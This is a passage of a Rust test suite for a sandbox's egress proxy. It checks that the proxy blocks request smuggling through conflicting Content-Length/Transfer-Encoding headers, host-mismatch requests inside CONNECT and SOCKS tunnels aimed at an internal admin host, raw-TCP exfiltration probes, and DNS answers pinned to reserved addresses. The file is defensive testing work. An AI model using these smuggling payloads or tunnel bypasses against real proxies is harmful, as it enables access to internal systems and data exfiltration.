                            if close { "Connection: close\r\n" } else { "" }
                        );
                        if close {
                            return;
                        }
                    }
                });
            }
        });
        KeepAlive {
            port,
            log,
            connections,
        }
    }

    fn log(&self) -> Vec<String> {
        self.log.lock().unwrap().clone()
    }

    fn connections(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }
}

type Request = (String, std::collections::HashMap<String, String>, Vec<u8>);

/// A request line and headers as a plain server reads them.
fn read_head(
    r: &mut impl std::io::BufRead,
) -> Option<(String, std::collections::HashMap<String, String>)> {
    let mut line = String::new();
    if r.read_line(&mut line).ok()? == 0 {
        return None;
    }
    let mut headers = std::collections::HashMap::new();
    loop {
        let mut h = String::new();
        r.read_line(&mut h).ok()?;
        let h = h.trim_end();
        if h.is_empty() {
            break;
        }
        let (n, v) = h.split_once(':')?;
        headers.insert(n.trim().to_ascii_lowercase(), v.trim().to_string());
    }
    Some((line.trim_end().to_string(), headers))
}

/// One request as a plain server reads it (the test's own reading, not the proxy's).
fn read_request(r: &mut impl std::io::BufRead) -> Option<Request> {
    let (line, headers) = read_head(r)?;
    let body = read_body(r, &headers)?;
    Some((line, headers, body))
}

fn read_body(
    r: &mut impl std::io::BufRead,
    headers: &std::collections::HashMap<String, String>,
) -> Option<Vec<u8>> {
    let mut body = Vec::new();
    if headers
        .get("transfer-encoding")
        .is_some_and(|v| v == "chunked")
    {
        loop {
            let mut size = String::new();
            r.read_line(&mut size).ok()?;
            let n = usize::from_str_radix(size.trim().split(';').next()?, 16).ok()?;
            if n == 0 {
                let mut end = String::new();
                while r.read_line(&mut end).ok()? > 0 && end.trim_end() != "" {
                    end.clear();
                }
                break;
            }
            let mut chunk = vec![0u8; n + 2];
            r.read_exact(&mut chunk).ok()?;
            body.extend_from_slice(&chunk[..n]);
        }
    } else if let Some(n) = headers.get("content-length") {
        let mut b = vec![0u8; n.parse().ok()?];
        r.read_exact(&mut b).ok()?;
        body = b;
    }
    Some(body)
}

/// Clients inside the sandbox that hold one connection (forward, CONNECT or SOCKS) and
/// send raw requests on it, each argument a JSON object `{label, kind, host, port,
/// pipelined, requests}`; `{AUTH}` in a request stands for the proxy credentials. Prints
/// `LABEL#i => status line | body` per response, `LABEL#i => CLOSED` when the
/// connection ends first.
const SESSIONS: &str = r#"
import base64, json, os, socket, struct, sys, urllib.parse
TOKEN = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"]).password
AUTH = "Basic " + base64.b64encode(("gitloop:" + TOKEN).encode()).decode()

def open_conn(kind, host, port):
    s = socket.create_connection(("127.0.0.1", 1080 if kind == "socks" else 3128), timeout=20)
    if kind == "connect":
        s.sendall(("CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\nProxy-Authorization: %s\r\n\r\n" % (host, port, host, port, AUTH)).encode())
        data = b""
        while b"\r\n\r\n" not in data:
            data += s.recv(1)
        assert data.startswith(b"HTTP/1.1 200"), data
    elif kind == "socks":
        s.sendall(b"\x05\x01\x02")
        assert s.recv(2) == b"\x05\x02"
        s.sendall(bytes([1, 7]) + b"gitloop" + bytes([len(TOKEN)]) + TOKEN.encode())
        assert s.recv(2) == b"\x01\x00"
        s.sendall(bytes([5, 1, 0, 3, len(host)]) + host.encode() + struct.pack(">H", port))
        r = s.recv(10)
        assert r[1] == 0, r
    return s

class Reader:
    def __init__(self, s):
        self.s, self.buf = s, b""
    def fill(self):
        d = self.s.recv(65536)
        if not d:
            raise EOFError
        self.buf += d
    def response(self, head_request=False):
        while b"\r\n\r\n" not in self.buf:
            self.fill()
        head, self.buf = self.buf.split(b"\r\n\r\n", 1)
        lines = head.decode(errors="replace").split("\r\n")
        hs = dict((l.split(":", 1)[0].strip().lower(), l.split(":", 1)[1].strip()) for l in lines[1:] if ":" in l)
        n = 0 if head_request else int(hs.get("content-length", "0"))
        while len(self.buf) < n:
            self.fill()
        body, self.buf = self.buf[:n], self.buf[n:]
        return lines[0] + " | " + body.decode(errors="replace").replace("\n", " ")

for arg in sys.argv[1:]:
    spec = json.loads(arg)
    label = spec["label"]
    try:
        s = open_conn(spec["kind"], spec["host"], spec["port"])
    except (OSError, AssertionError) as e:
        print("%s => OPEN-FAILED %r" % (label, e), flush=True)
        continue
    r = Reader(s)
    reqs = [q.replace("{AUTH}", AUTH).encode() for q in spec["requests"]]
    if spec.get("pipelined"):
        s.sendall(b"".join(reqs))
    for i, q in enumerate(reqs):
        if not spec.get("pipelined"):
            try:
                s.sendall(q)
            except OSError:
                pass
        try:
            print("%s#%d => %s" % (label, i, r.response(q.startswith(b"HEAD "))), flush=True)
        except (EOFError, OSError):
            print("%s#%d => CLOSED" % (label, i), flush=True)
            break
    s.close()
"#;

/// A `SESSIONS` argument.
fn session(
    label: &str,
    kind: &str,
    host: &str,
    port: u16,
    pipelined: bool,
    requests: &[String],
) -> String {
    serde_json::json!({
        "label": label, "kind": kind, "host": host, "port": port,
        "pipelined": pipelined, "requests": requests,
    })
    .to_string()
}

fn get(target: &str, host: &str) -> String {
    format!("GET {target} HTTP/1.1\r\nHost: {host}\r\nProxy-Authorization: {{AUTH}}\r\n\r\n")
}

fn post(target: &str, host: &str, body: &str) -> String {
    format!(
        "POST {target} HTTP/1.1\r\nHost: {host}\r\nProxy-Authorization: {{AUTH}}\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

fn post_chunked(target: &str, host: &str, chunks: &[&str]) -> String {
    let mut s = format!(
        "POST {target} HTTP/1.1\r\nHost: {host}\r\nProxy-Authorization: {{AUTH}}\r\nTransfer-Encoding: chunked\r\n\r\n"
    );
    for c in chunks {
        s.push_str(&format!("{:x};ext=1\r\n{c}\r\n", c.len()));
    }
    s.push_str("0\r\n\r\n");
    s
}

#[test]
fn attack_38_a_second_request_with_another_host_is_refused() {
    let names = ["allowed.test", "internal-admin.corp"];
    let (env, id) = setup(&pins(&names, true));
    let web = KeepAlive::start("web");
    let p = web.port;
    let (a, evil) = (
        format!("allowed.test:{p}"),
        format!("internal-admin.corp:{p}"),
    );
    let args = [
        // A keep-alive forward connection: the second request names another host.
        session(
            "forward",
            "forward",
            "-",
            0,
            false,
            &[
                get(&format!("http://{a}/one"), &a),
                get(&format!("http://{evil}/two"), &evil),
            ],
        ),
        // ... or the allowed host in its URI and another in its Host header.
        session(
            "forward-host",
            "forward",
            "-",
            0,
            false,
            &[
                get(&format!("http://{a}/one"), &a),
                get(&format!("http://{a}/two"), &evil),
            ],
        ),
        // In a CONNECT tunnel and a SOCKS tunnel to the allowed host.
        session(
            "connect",
            "connect",
            "allowed.test",
            p,
            false,
            &[get("/one", &a), get("/two", &evil)],
        ),
        session(
            "socks",
            "socks",
            "allowed.test",
            p,
            false,
            &[get("/one", &a), get("/two", &evil)],
        ),
        // Both at once, pipelined.
        session(
            "pipelined",
            "connect",
            "allowed.test",
            p,
            true,
            &[get("/one", &a), get("/two", &evil)],
        ),
        // The absolute form inside a tunnel names the host a server routes by.
        session(
            "absolute",
            "connect",
            "allowed.test",
            p,
            false,
            &[get("/one", &a), get(&format!("http://{evil}/two"), &a)],
        ),
    ];
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let run = py(&env, &id, &["allowed.test"], SESSIONS, &args);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    for label in [
        "forward",
        "forward-host",
        "connect",
        "socks",
        "pipelined",
        "absolute",
    ] {
        let first = probe(&run, &format!("{label}#0"));
        assert!(
            first.starts_with("HTTP/1.1 200") && first.contains("web GET /one"),
            "{label}: {first}"
        );
        let second = probe(&run, &format!("{label}#1"));
        assert!(second.starts_with("HTTP/1.1 403"), "{label}: {second}");
        assert!(
            second.contains("git-loop sandbox policy") && second.contains("not a network fault"),
            "{label}: {second}"
        );
    }
    assert!(probe(&run, "forward#1").contains("rule: allowlist"));
    for label in ["forward-host", "connect", "socks", "pipelined", "absolute"] {
        assert!(
            probe(&run, &format!("{label}#1")).contains("rule: host-mismatch"),
            "{label}"
        );
    }
    assert_violation(&env, &id, &evil, "allowlist");
    for via in ["connect", "socks"] {
        assert!(
            violations(&env, &id)
                .iter()
                .any(|v| v["target"] == a.as_str()
                    && v["rule"] == "host-mismatch"
                    && v["via"] == via
                    && v["reason"]
                        .as_str()
                        .unwrap_or("")
                        .contains("internal-admin.corp")),
            "no {via} violation: {:?}",
            violations(&env, &id)
        );
    }
    // The server saw the first request of each connection, and nothing for the other host.
    let log = web.log();
    assert_eq!(log.len(), 6, "{log:?}");
    assert!(
        log.iter()
            .all(|l| l.starts_with("GET /one host=allowed.test:")),
        "{log:?}"
    );
}

#[test]
fn keep_alive_and_pipelined_requests_reach_the_allowed_host_in_order() {
    let names = ["allowed.test", "allowed2.test"];
    let (env, id) = setup(&pins(&names, true));
    let web = KeepAlive::start("web");
    let p = web.port;
    let (a, b) = (format!("allowed.test:{p}"), format!("allowed2.test:{p}"));
    let smuggled = "GET /smuggled HTTP/1.1\r\nHost: internal-admin.corp\r\n\r\n";
    let tunnel_requests = [
        get("/a", &a),
        post("/b", &a, "hello"),
        post_chunked("/c", &a, &["chunked ", "body"]),
        post("/d", &a, smuggled),
        post_chunked("/e", &a, &[smuggled]),
        // HTTP/1.0 without a Host header: the proxy names the tunnel's host.
        "GET /f HTTP/1.0\r\nConnection: keep-alive\r\n\r\n".to_string(),
        // A HEAD answer names a length and has no body: the next answer follows at once.
        format!("HEAD /g HTTP/1.1\r\nHost: {a}\r\n\r\n"),
        get("/h", &a),
    ];
    let args = [
        session(
            "forward",
            "forward",
            "-",
            0,
            true,
            &[
                get(&format!("http://{a}/a"), &a),
                post(&format!("http://{a}/b"), &a, "hello"),
                post_chunked(&format!("http://{b}/c"), &b, &["chunked ", "body"]),
                get(&format!("http://{a}/d"), &a),
            ],
        ),
        session(
            "connect",
            "connect",
            "allowed.test",
            p,
            true,
            &tunnel_requests,
        ),
        session("socks", "socks", "allowed.test", p, false, &tunnel_requests),
    ];
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let run = py(
        &env,
        &id,
        &["allowed.test", "allowed2.test"],
        SESSIONS,
        &args,
    );
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    for (i, want) in [
        "web GET /a ",
        "web POST /b hello",
        "web POST /c chunked body",
        "web GET /d ",
    ]
    .iter()
    .enumerate()
    {
        let got = probe(&run, &format!("forward#{i}"));
        assert!(
            got.starts_with("HTTP/1.1 200") && got.ends_with(want),
            "forward#{i}: {got}"
        );
    }
    let smuggled_shown = smuggled.replace('\n', " ");
    for label in ["connect", "socks"] {
        let want = [
            "web GET /a ".to_string(),
            "web POST /b hello".to_string(),
            "web POST /c chunked body".to_string(),
            format!("web POST /d {smuggled_shown}"),
            format!("web POST /e {smuggled_shown}"),
            "web GET /f ".to_string(),
            " | ".to_string(),
            "web GET /h ".to_string(),
        ];
        for (i, want) in want.iter().enumerate() {
            let got = probe(&run, &format!("{label}#{i}"));
            assert!(
                got.starts_with("HTTP/1.1 200") && got.ends_with(want.as_str()),
                "{label}#{i}: {got}"
            );
        }
    }
    // What the server read, in order, bodies intact: a body is never taken for a request.
    let log = web.log();
    let expect_tunnel = [
        format!("GET /a host={a} body="),
        format!("POST /b host={a} body=hello"),
        format!("POST /c host={a} body=chunked body"),
        format!("POST /d host={a} body={smuggled}"),
        format!("POST /e host={a} body={smuggled}"),
        format!("GET /f host={a} body="),
        format!("HEAD /g host={a} body="),
        format!("GET /h host={a} body="),
    ];
    let mut want: Vec<String> = vec![
        format!("GET /a host={a} body="),
        format!("POST /b host={a} body=hello"),
        format!("POST /c host={b} body=chunked body"),
        format!("GET /d host={a} body="),
    ];
    want.extend(expect_tunnel.iter().cloned());
    want.extend(expect_tunnel.iter().cloned());
    assert_eq!(log, want);
    assert!(!log.iter().any(|l| l.starts_with("GET /smuggled")));
    assert!(
        violations(&env, &id).is_empty(),
        "{:?}",
        violations(&env, &id)
    );
    // curl reuses its proxy connection, and the proxy its server connection.
    let before = web.connections();
    sh(
        &env,
        &id,
        &["allowed.test"],
        &format!("curl -sS http://{a}/x http://{a}/y"),
        &[],
    )
    .ok()
    .stdout_has("web GET /x web GET /y");
    assert_eq!(web.connections(), before + 1);
}

#[test]
fn attack_38_ambiguous_framing_is_refused() {
    let (env, id) = setup(&pins(&["allowed.test"], true));
    let web = KeepAlive::start("web");
    let p = web.port;
    let a = format!("allowed.test:{p}");
    let both = format!(
        "POST /x HTTP/1.1\r\nHost: {a}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: internal-admin.corp\r\n\r\n"
    );
    let two_lengths =
        format!("POST /x HTTP/1.1\r\nHost: {a}\r\nContent-Length: 0\r\nContent-Length: 60\r\n\r\n");
    let coding = format!(
        "POST /x HTTP/1.1\r\nHost: {a}\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n"
    );
    let args = [
        session(
            "both",
            "connect",
            "allowed.test",
            p,
            false,
            &[get("/one", &a), both],
        ),
        session(
            "two-lengths",
            "connect",
            "allowed.test",
            p,
            false,
            &[get("/one", &a), two_lengths],
        ),
        session(
            "coding",
            "socks",
            "allowed.test",
            p,
            false,
            &[get("/one", &a), coding],
        ),
    ];
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let run = py(&env, &id, &["allowed.test"], SESSIONS, &args);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    for label in ["both", "two-lengths", "coding"] {
        assert!(
            probe(&run, &format!("{label}#0")).contains("web GET /one"),
            "{label}"
        );
        let got = probe(&run, &format!("{label}#1"));
        assert!(
            got.starts_with("HTTP/1.1 400") && got.contains("rule: malformed"),
            "{label}: {got}"
        );
    }
    assert_violation(&env, &id, &a, "malformed");
    let log = web.log();
    assert_eq!(log.len(), 3, "{log:?}");
    assert!(log.iter().all(|l| l.starts_with("GET /one")), "{log:?}");
}

/// A TCP server on 127.0.0.1 that records what each connection sends and echoes it;
/// with a greeting, it speaks first (as SMTP and ssh servers do).
struct RawEcho {
    port: u16,
    received: Arc<Mutex<Vec<u8>>>,
}

impl RawEcho {
    fn start(greeting: Option<&'static str>) -> RawEcho {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let received = Arc::new(Mutex::new(Vec::new()));
        let r = received.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let r = r.clone();
                std::thread::spawn(move || {
                    let _ = stream.set_read_timeout(Some(Duration::from_secs(20)));
                    if let Some(g) = greeting {
                        let _ = stream.write_all(g.as_bytes());
                    }
                    let mut buf = [0u8; 4096];
                    loop {
                        match stream.read(&mut buf) {
                            Ok(0) | Err(_) => return,
                            Ok(n) => {
                                r.lock().unwrap().extend_from_slice(&buf[..n]);
                                let _ = stream.write_all(&buf[..n]);
                            }
                        }
                    }
                });
            }
        });
        RawEcho { port, received }
    }

    fn received(&self) -> Vec<u8> {
        self.received.lock().unwrap().clone()
    }
}

/// Opens a tunnel (`connect` or `socks`) inside the sandbox, sends `PAYLOAD` (Python
/// bytes literal) and prints `LABEL => ` what came back before the end or 3 s.
const RAW_PROBE: &str = r#"
import ast, base64, os, socket, struct, sys, urllib.parse
TOKEN = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"]).password
AUTH = "Basic " + base64.b64encode(("gitloop:" + TOKEN).encode()).decode()
for arg in sys.argv[1:]:
    label, kind, host, port, payload = arg.split("|", 4)
    port = int(port)
    payload = ast.literal_eval(payload)
    s = socket.create_connection(("127.0.0.1", 1080 if kind == "socks" else 3128), timeout=10)
    if kind == "connect":
        s.sendall(("CONNECT %s:%d HTTP/1.1\r\nProxy-Authorization: %s\r\n\r\n" % (host, port, AUTH)).encode())
        data = b""
        while b"\r\n\r\n" not in data:
            data += s.recv(1)
    else:
        s.sendall(b"\x05\x01\x02"); s.recv(2)
        s.sendall(bytes([1, 7]) + b"gitloop" + bytes([len(TOKEN)]) + TOKEN.encode()); s.recv(2)
        s.sendall(bytes([5, 1, 0, 3, len(host)]) + host.encode() + struct.pack(">H", port)); s.recv(10)
    s.settimeout(3)
    got = b""
    try:
        if payload:
            s.sendall(payload)
        while len(got) < len(payload) + 64:
            d = s.recv(4096)
            if not d:
                break
            got += d
            if payload and payload in got:
                break
    except OSError:
        pass
    print("%s => %r" % (label, got), flush=True)
"#;

#[test]
fn attack_38_a_tunnel_that_is_neither_tls_nor_http_is_refused() {
    let (env, id) = setup(&pins(&["allowed.test"], true));
    let echo = RawEcho::start(None);
    let greeter = RawEcho::start(Some("220 greeter ready\r\n"));
    let (p, g) = (echo.port, greeter.port);
    let probes = [
        format!("binary-connect|connect|allowed.test|{p}|b'\\x00\\x01secret\\x02'"),
        format!("binary-socks|socks|allowed.test|{p}|b'\\x00\\x01secret\\x02'"),
        format!("smtp-connect|connect|allowed.test|{p}|b'EHLO exfil.test\\r\\n'"),
        format!("greeter-socks|socks|allowed.test|{g}|b''"),
    ];
    let args: Vec<&str> = probes.iter().map(String::as_str).collect();
    // A team layer cannot allow raw TCP: only the operator's file can.
    let team = env.ws.join("context/knowledge/.loopat/config.toml");
    fs::create_dir_all(team.parent().unwrap()).unwrap();
    fs::write(
        &team,
        format!("[network]\nallow_raw_tcp = [\"allowed.test:{p}\", \"allowed.test:{g}\"]\n"),
    )
    .unwrap();
    let run = py(&env, &id, &["allowed.test"], RAW_PROBE, &args);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    for label in [
        "binary-connect",
        "binary-socks",
        "smtp-connect",
        "greeter-socks",
    ] {
        assert_eq!(probe(&run, label), "b''", "{label}");
    }
    assert_eq!(echo.received(), b"", "bytes reached the server");
    assert_eq!(greeter.received(), b"");
    for (target, via) in [
        (format!("allowed.test:{p}"), "connect"),
        (format!("allowed.test:{p}"), "socks"),
        (format!("allowed.test:{g}"), "socks"),
    ] {
        assert!(
            violations(&env, &id)
                .iter()
                .any(|v| v["target"] == target.as_str()
                    && v["rule"] == "raw-tcp"
                    && v["via"] == via
                    && v["reason"].as_str().unwrap_or("").contains("allow_raw_tcp")),
            "no {via} raw-tcp violation for {target}: {:?}",
            violations(&env, &id)
        );
    }
    // Positive twin: the operator allows raw TCP to exactly these ports.
    fs::remove_file(&team).unwrap();
    write_operator(
        &env,
        &format!(
            "[network]\nallow_cidrs = [\"127.0.0.0/8\"]\nallow_raw_tcp = [\"allowed.test:{p}\", \"allowed.test:{g}\"]\n\n\
             [network.hosts]\n\"allowed.test\" = \"127.0.0.1\"\n"
        ),
    );
    let run = py(&env, &id, &["allowed.test"], RAW_PROBE, &args);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert_eq!(probe(&run, "binary-connect"), "b'\\x00\\x01secret\\x02'");
    assert_eq!(probe(&run, "binary-socks"), "b'\\x00\\x01secret\\x02'");
    assert_eq!(probe(&run, "smtp-connect"), "b'EHLO exfil.test\\r\\n'");
    assert_eq!(probe(&run, "greeter-socks"), "b'220 greeter ready\\r\\n'");
    // A malformed entry stops the run before it starts, and says how to write one.
    write_operator(&env, "[network]\nallow_raw_tcp = [\"allowed.test\"]\n");
    env.run(["run", &id, "--", "true"])
        .fails(1)
        .stderr_has("allow_raw_tcp")
        .stderr_has("needs a port");
}

// ---------------------------------------------------------------------------------------
// Tests in a network namespace of their own (only a loopback): the proxy dials there
// ---------------------------------------------------------------------------------------

#[test]
fn ssh_to_a_baseline_git_host_goes_through_socks_by_default() {
    // github.com on port 22 is allowed raw TCP by the baseline; the name is pinned to a
    // test sshd on port 22 of a namespace's own loopback, so nothing leaves this machine.
    let ns = Netns::new();
    let names = ["github.com", "git.test"];
    let (env, id) = setup(&pins(&names, true));
    let sshd = start_sshd(&env, &id, 22, &ns.prefix, &names);
    let (user, repo) = (&sshd.user, sshd.repo.display());
    let script = format!(
        "{}{}",
        ssh_clone("GITHUB", &format!("ssh://{user}@github.com{repo}")),
        ssh_clone("OTHER", &format!("ssh://{user}@git.test{repo}"))
    );
    let run = ns.run(
        &env,
        &[
            "run",
            "-q",
            &id,
            "--allow-domain",
            "git.test",
            "--",
            "sh",
            "-c",
            &script,
        ],
    );
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    run.stdout_has("GITHUB ").stdout_has(" first");
    // git.test is allowed, but not raw TCP on port 22.
    let other: Vec<&str> = run
        .stdout
        .lines()
        .filter(|l| l.starts_with("OTHER "))
        .collect();
    assert!(
        !other.is_empty() && other.iter().all(|l| !l.ends_with(" first")),
        "{}",
        run.stdout
    );
    assert_violation(&env, &id, "git.test:22", "raw-tcp");
    assert!(
        !violations(&env, &id)
            .iter()
            .any(|v| v["target"] == "github.com:22"),
        "{:?}",
        violations(&env, &id)
    );
}

#[test]
fn attack_39_reserved_and_translated_addresses_are_refused() {
    // Each name is pinned to an address of a special-purpose class (IANA's registries),
    // as a DNS answer an attacker controls would be. In a namespace of its own: the
    // twins below make the proxy dial such addresses, which have no route there.
    let ns = Netns::new();
    let refused = [
        ("bench.test", "198.18.0.1", "benchmarking"),
        ("bench2.test", "198.19.255.254", "benchmarking"),
        ("doc1.test", "192.0.2.10", "documentation"),
        ("doc2.test", "198.51.100.10", "documentation"),
        ("doc3.test", "203.0.113.10", "documentation"),
        ("reserved.test", "240.0.0.1", "reserved"),
        ("thisnet.test", "0.1.2.3", "this network"),
        ("relay.test", "192.88.99.1", "6to4 relay"),
        ("doc6.test", "2001:db8::1", "documentation"),
        ("doc3fff.test", "3fff::1", "documentation"),
        (
            "sixtofour-lo.test",
            "2002:7f00:1::1",
            "loopback (IPv4 in IPv6)",
        ),
        (
            "sixtofour-lan.test",
            "2002:c0a8:101::1",
            "private (RFC 1918) (IPv4 in IPv6)",
        ),
        (
            "nat64-lan.test",
            "64:ff9b::a00:1",
            "private (RFC 1918) (IPv4 in IPv6)",
        ),
        ("nat64-bench.test", "64:ff9b::c612:1", "benchmarking"),
        ("nat64-local.test", "64:ff9b:1::a00:1", "translation"),
        (
            "teredo.test",
            "2001:0:4136:e378:8000:63bf:3fff:fdd2",
            "Teredo",
        ),
        ("mapped.test", "::ffff:198.18.0.1", "benchmarking"),
        ("compat.test", "::c612:1", "benchmarking"),
        ("discard.test", "100::1", "outside global unicast"),
    ];
    let dialed = [
        // What the operator allows explicitly, and translated forms of public addresses.
        ("allowed-bench.test", "198.18.0.1"),
        ("nat64-public.test", "64:ff9b::5db8:d70e"),
        ("sixtofour-public.test", "2002:5db8:d70e::1"),
    ];
    let mut config = String::from("[network.hosts]\n");
    for (n, a, _) in refused {
        config.push_str(&format!("\"{n}\" = \"{a}\"\n"));
    }
    for (n, a) in dialed {
        config.push_str(&format!("\"{n}\" = \"{a}\"\n"));
    }
    let (env, id) = setup(&config);
    let mut probes = Vec::new();
    let mut allow = Vec::new();
    for (n, _, _) in refused {
        probes.push(format!("{n}|http|http://{n}/|{n}"));
        probes.push(format!("{n}-socks|socks|domain|{n}|80"));
        allow.push(n);
    }
    let mut argv = vec!["run", "-q", &id];
    for a in &allow {
        argv.extend(["--allow-domain", a]);
    }
    argv.extend(["--", "python3", "-c", PROBES]);
    argv.extend(probes.iter().map(String::as_str));
    let run = ns.run(&env, &argv);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    for (n, a, class) in refused {
        let got = probe(&run, n);
        assert!(
            got.starts_with("HTTP/1.1 403") && got.contains("rule: address"),
            "{n} ({a}): {got}"
        );
        assert!(got.contains(class), "{n} ({a}): {got}");
        assert_eq!(probe(&run, &format!("{n}-socks")), "REPLY 2", "{n}");
        assert_violation(&env, &id, &format!("{n}:80"), "address");
    }
    // Twins: the proxy dials (and finds no route in this namespace: 502, no violation).
    write_operator(
        &env,
        &format!("[network]\nallow_cidrs = [\"198.18.0.0/15\"]\n\n{config}"),
    );
    let mut argv = vec!["run", "-q", &id];
    for (n, _) in dialed {
        argv.extend(["--allow-domain", n]);
    }
    let probes: Vec<String> = dialed
        .iter()
        .map(|(n, _)| format!("{n}|http|http://{n}/|{n}"))
        .collect();
    argv.extend(["--", "python3", "-c", PROBES]);
    argv.extend(probes.iter().map(String::as_str));
    let before = violations(&env, &id).len();
    let run = ns.run(&env, &argv);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    for (n, a) in dialed {
        let got = probe(&run, n);
        assert!(
            got.starts_with("HTTP/1.1 502") && got.contains("cannot reach"),
            "{n} ({a}): {got}"
        );
    }
    assert_eq!(
        violations(&env, &id).len(),
        before,
        "{:?}",
        violations(&env, &id)
    );
}

/// An HTTP/1.1 server on 127.0.0.1 that switches protocols (101, then echoes bytes) when
/// a request has an Upgrade header, or when its path is `/always` (asked or not), and
/// otherwise answers `plain PATH` and keeps the connection. Records each request head.
struct Switcher {
    port: u16,
    heads: Arc<Mutex<Vec<String>>>,
}

impl Switcher {
    fn start() -> Switcher {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let heads = Arc::new(Mutex::new(Vec::new()));
        let h = heads.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(stream) = stream else { continue };
                let h = h.clone();
                std::thread::spawn(move || {
                    let _ = stream.set_read_timeout(Some(Duration::from_secs(20)));
                    let mut w = stream.try_clone().unwrap();
                    let mut r = std::io::BufReader::new(stream);
                    while let Some((line, headers, _)) = read_request(&mut r) {
                        let path = line.split(' ').nth(1).unwrap_or("").to_string();
                        let mut names: Vec<&String> = headers.keys().collect();
                        names.sort();
                        h.lock().unwrap().push(format!("{line} {names:?}"));
                        if headers.contains_key("upgrade") || path == "/always" {
                            let _ = w.write_all(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n");
                            let mut buf = [0u8; 4096];
                            loop {
                                match r.read(&mut buf) {
                                    Ok(0) | Err(_) => return,
                                    Ok(n) => {
                                        let _ = w.write_all(&buf[..n]);
                                    }
                                }
                            }
                        }
                        let body = format!("plain {path}");
                        let _ = write!(
                            w,
                            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
                            body.len()
                        );
                    }
                });
            }
        });
        Switcher { port, heads }
    }

    fn heads(&self) -> Vec<String> {
        self.heads.lock().unwrap().clone()
    }
}

#[test]
fn attack_38_only_a_websocket_upgrade_switches_the_connection() {
    let (env, id) = setup(&pins(&["allowed.test", "internal-admin.corp"], true));
    let server = Switcher::start();
    let p = server.port;
    let a = format!("allowed.test:{p}");
    let evil = format!("GET /two HTTP/1.1\r\nHost: internal-admin.corp:{p}\r\n\r\n");
    let upgrade = |path: &str, proto: &str| {
        format!(
            "GET {path} HTTP/1.1\r\nHost: {a}\r\nProxy-Authorization: {{AUTH}}\r\nUpgrade: {proto}\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n\r\n"
        )
    };
    let args = [
        // A WebSocket switch: afterwards the connection is the server's WebSocket
        // endpoint's, and what the client sends reaches it (and comes back) as it is.
        session(
            "websocket",
            "connect",
            "allowed.test",
            p,
            false,
            &[upgrade("/ws", "websocket"), evil.clone()],
        ),
        // An upgrade to HTTP/2 (h2c) would carry requests the proxy does not read: the
        // header is not sent on, the server answers in HTTP/1.1, and the next request is
        // checked.
        session(
            "h2c",
            "connect",
            "allowed.test",
            p,
            false,
            &[upgrade("/h2", "h2c"), evil.clone()],
        ),
        session(
            "h2c-forward",
            "forward",
            "-",
            0,
            false,
            &[
                upgrade(&format!("http://{a}/h2"), "h2c"),
                get(
                    &format!("http://internal-admin.corp:{p}/two"),
                    &format!("internal-admin.corp:{p}"),
                ),
            ],
        ),
        // A switch nobody asked for ends the connection.
        session(
            "unasked",
            "socks",
            "allowed.test",
            p,
            false,
            &[get("/always", &a), evil.clone()],
        ),
    ];
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let run = py(&env, &id, &["allowed.test"], SESSIONS, &args);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(
        probe(&run, "websocket#0").starts_with("HTTP/1.1 101"),
        "{}",
        run.stdout
    );
    assert_eq!(probe(&run, "websocket#1"), "GET /two HTTP/1.1 | ");
    for label in ["h2c", "h2c-forward"] {
        assert_eq!(
            probe(&run, &format!("{label}#0")),
            "HTTP/1.1 200 OK | plain /h2",
            "{label}"
        );
        let second = probe(&run, &format!("{label}#1"));
        assert!(second.starts_with("HTTP/1.1 403"), "{label}: {second}");
    }
    assert_eq!(probe(&run, "unasked#0"), "CLOSED");
    let heads = server.heads();
    // The WebSocket request, the two h2c requests without their Upgrade, and /always:
    // the request for the other host after the switch was never read as a request.
    assert_eq!(heads.len(), 4, "{heads:?}");
    for h in heads.iter().filter(|h| h.contains("/h2")) {
        assert!(
            !h.contains("\"upgrade\"") && !h.contains("http2-settings"),
            "{h}"
        );
    }
    assert!(!heads.iter().any(|h| h.contains("/two")), "{heads:?}");
}

/// An HTTP/1.1 server on 127.0.0.1 for `Expect: 100-continue`: `/continue` sends 100 and
/// reads the body; `/ignore` reads the body without a 100; `/reject` answers 401 at once
/// and, as a careless server would, reads what follows as its next request (the body
/// included). Records each request line and what it answered.
struct Expecting {
    port: u16,
    log: Arc<Mutex<Vec<String>>>,
}

impl Expecting {
    fn start() -> Expecting {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let log = Arc::new(Mutex::new(Vec::new()));
        let l = log.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(stream) = stream else { continue };
                let l = l.clone();
                std::thread::spawn(move || {
                    let _ = stream.set_read_timeout(Some(Duration::from_secs(20)));
                    let mut w = stream.try_clone().unwrap();
